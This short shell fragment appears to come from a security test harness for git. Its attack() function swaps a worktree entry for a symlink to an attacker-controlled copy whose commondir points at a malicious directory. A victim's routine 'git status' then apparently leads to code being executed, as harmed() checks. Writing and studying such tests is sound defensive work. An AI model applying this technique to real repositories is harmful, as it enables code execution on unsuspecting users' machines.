# A foreign entry becomes a symbolic link to a copy that the attacker controls.
attack() {
    evil_common "$PWD/.evil"
    cp -r "$ENTRY" .copy
    echo "$PWD/.evil" >.copy/commondir
    mv "$ENTRY" "$COMMON/worktrees/aside" || rm -rf "$ENTRY"
    ln -s "$PWD/.copy" "$ENTRY"
}
human() {
    git -C "$VICTIM" status
}
harmed() {
    executed
}
